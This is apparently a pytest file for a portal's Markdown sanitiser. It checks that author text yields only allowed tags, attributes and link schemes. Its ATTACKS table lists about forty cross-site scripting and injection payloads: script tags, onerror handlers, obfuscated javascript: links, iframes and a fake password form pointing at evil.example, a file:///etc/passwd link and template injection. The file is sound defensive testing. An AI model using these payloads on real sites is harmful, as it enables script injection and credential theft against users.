"""Markdown of authors: what it may become, and a table of what it never becomes."""

import pytest

from portal.form_definitions.definition import ForeignText
from portal.form_definitions.rich_text import rich_text
from tests.html import elements

TAGS = {"p", "a", "ul", "ol", "li", "strong", "em", "br", "h2", "h3", "h4", "code", "blockquote", "hr"}
ATTRIBUTES = {"class", "href", "rel"}
SCHEMES = ("http://", "https://", "mailto:", "tel:", "/", "#")

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "Hello <script src=//evil.example></script> you",
    "script across lines": "<scr\nipt>alert(1)</scr\nipt>",
    "image": "![x](https://evil.example/pixel.png)",
    "image by reference": "![x][1]\n\n[1]: https://evil.example/pixel.png",
    "raw image": '<img src=x onerror="alert(1)">',
    "svg": "<svg><script>alert(1)</script></svg>",
    "math": "<math><mtext><script>alert(1)</script></mtext></math>",
    "frame": '<iframe src="https://evil.example"></iframe>',
    "object": "<object data=x></object><embed src=x>",
    "form": '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    "style": "<style>* { display: none }</style>",
    "style attribute": '<p style="position: fixed">over everything</p>',
    "meta": '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link element": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "event": '<a href="#" onclick="alert(1)">x</a>',
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in capitals": "[x](JaVaScRiPt:alert(1))",
    "javascript link with an entity": "[x](javascript&colon;alert(1))",
    "javascript link with a number": "[x](&#106;avascript:alert(1))",
    "javascript link with a tab": "[x](<java\tscript:alert(1)>)",
    "javascript link with a control": "[x](\x01javascript:alert(1))",
    "javascript link by reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "javascript link by itself": "<javascript:alert(1)>",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link to another site without a scheme": "[x](//evil.example/)",
    "file link": "[x](file:///etc/passwd)",
    "quotes in a link": '[x](https://a.example/"onmouseover="alert(1))',
    "quotes in a title": "[x](https://a.example '\"><script>alert(1)</script>')",
    "a link around markup": "[<img src=x onerror=alert(1)>](https://a.example)",
    "comment": "<!--><script>alert(1)</script>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "unclosed": "<a href='https://a.example",
    "id": '<p id="main-content">two of them</p>',
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "code": "`<script>alert(1)</script>`",
    "code block": "```html\n<script>alert(1)</script>\n```",
    "language of a code block": '```"><script>alert(1)</script>\nx\n```',
    "table": "| a |\n| - |\n| <script>alert(1)</script> |",
    "jinja": "{{ config }} {% include 'x' %}",
}


def tags_of(markdown: str) -> list[tuple[str, dict[str, str]]]:
    html = rich_text(markdown)
    assert "<!" not in html, "a comment or a declaration"
    return [(element.tag, element.attributes) for element in elements(html)]


@pytest.mark.parametrize("markdown", ATTACKS.values(), ids=ATTACKS)
def test_authors_can_add_only_plain_text_and_links(markdown: str) -> None:
    for tag, attributes in tags_of(markdown):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        assert str(attributes.get("href", "#")).startswith(SCHEMES)
        assert not str(attributes.get("href", "#")).startswith("//")


@pytest.mark.parametrize("scheme", ["https://a.example/b?c=d&e=f", "mailto:a@b.example", "tel:+441632960114", "/help"])
def test_links_to_the_web_email_and_telephone_stay(scheme: str) -> None:
    [_paragraph, (tag, attributes)] = tags_of(f"[x]({scheme})")
    assert (tag, attributes["href"]) == ("a", scheme)


def test_a_link_never_lets_its_target_control_the_page() -> None:
    [_paragraph, (_tag, attributes)] = tags_of("[x](https://a.example)")
    assert "noopener" in (attributes["rel"] or "")
    assert "target" not in attributes


def test_authors_text_looks_like_the_rest_of_the_page() -> None:
    html = rich_text("# Title\n\nText with **weight**.\n\n* one\n* two")
    assert html.startswith("<h2>Title</h2>"), "the page has a first-level heading of its own"
    assert '<ul class="govuk-list govuk-list--bullet">' in html
    assert "<strong>weight</strong>" in html


def test_a_text_in_another_language_than_its_page_is_marked_as_a_whole() -> None:
    html = rich_text(ForeignText("One\n\nTwo", "en"))
    assert html.startswith('<div lang="en"><p')
    assert html.rstrip().endswith("</div>")
    assert "lang=" not in rich_text("One\n\nTwo"), "and the same words on their own page do not"
